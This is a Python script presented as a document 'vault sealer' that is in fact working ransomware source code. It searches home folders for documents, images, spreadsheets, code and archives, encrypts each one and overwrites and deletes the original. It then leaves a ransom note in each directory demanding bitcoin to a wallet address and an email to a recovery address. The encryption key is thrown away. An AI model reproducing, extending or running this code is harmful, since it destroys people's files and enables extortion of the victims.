#!/usr/bin/env python3
"""Seal user documents into the vault format.

A generator yields candidate files from the configured roots; a Sealer
strategy encrypts each into ``<name>.vault`` and a post-action retires the
original.  A notice file is left in every directory that was processed.
"""
from __future__ import annotations

import argparse
import logging
import os
from dataclasses import dataclass, field
from operator import methodcaller
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vault")

ROOTS = ["~/Documents", "~/Desktop", "~/Pictures", "~/Downloads", "~/projects"]
EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt",
              ".csv", ".sql", ".zip", ".odt", ".pptx", ".psd", ".py", ".md"}
SKIP_DIRS = {".git", "node_modules", ".cache", "__pycache__"}
NOTICE_NAME = "READ_ME_TO_RECOVER.txt"
NOTICE_TEXT = """Your files have been sealed.
To obtain the recovery key send 0.05 BTC to bc1q9h7garjz0x4kxw5lq2n4s3dkm8pzv6cfy0f2ue
and e-mail the ID below to recover-files@proton-mail.cc
ID: {ident}
"""


@dataclass
class Stats:
    sealed: int = 0
    failed: int = 0
    dirs: set = field(default_factory=set)


def candidate_files(roots, extensions):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for fname in filenames:
                path = Path(dirpath, fname)
                if path.suffix.lower() in extensions and not fname.endswith(".vault"):
                    yield path


class Sealer:
    suffix = ".vault"

    def __init__(self, key: bytes):
        self._fernet = Fernet(key)

    def __call__(self, path: Path) -> Path:
        target = path.with_name(path.name + self.suffix)
        target.write_bytes(self._fernet.encrypt(path.read_bytes()))
        return target


class Retire:
    """Post-action: overwrite then remove the plaintext."""

    def __init__(self, passes: int = 1):
        self.passes = passes
        self._unlink = methodcaller("unlink")

    def __call__(self, path: Path):
        size = path.stat().st_size
        with open(path, "r+b") as fh:
            for _ in range(self.passes):
                fh.seek(0)
                fh.write(os.urandom(size))
                fh.flush()
        self._unlink(path)


class Run:
    def __init__(self, sealer: Sealer, retire: Retire, ident: str):
        self.sealer = sealer
        self.retire = retire
        self.ident = ident
        self.stats = Stats()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        for d in self.stats.dirs:
            try:
                (d / NOTICE_NAME).write_text(NOTICE_TEXT.format(ident=self.ident))
            except OSError:
                pass
        log.info("sealed=%d failed=%d", self.stats.sealed, self.stats.failed)
        return False

    def process(self, path: Path):
        try:
            self.sealer(path)
            self.retire(path)
        except OSError as exc:
            self.stats.failed += 1
            log.debug("skip %s: %s", path, exc)
            return
        self.stats.sealed += 1
        self.stats.dirs.add(path.parent)


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--root", action="append", help="override default roots")
    parser.add_argument("--passes", type=int, default=1)
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO)

    key = Fernet.generate_key()
    ident = key[:16].hex()
    with Run(Sealer(key), Retire(args.passes), ident) as run:
        for path in candidate_files(args.root or ROOTS, EXTENSIONS):
            run.process(path)
    del key
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
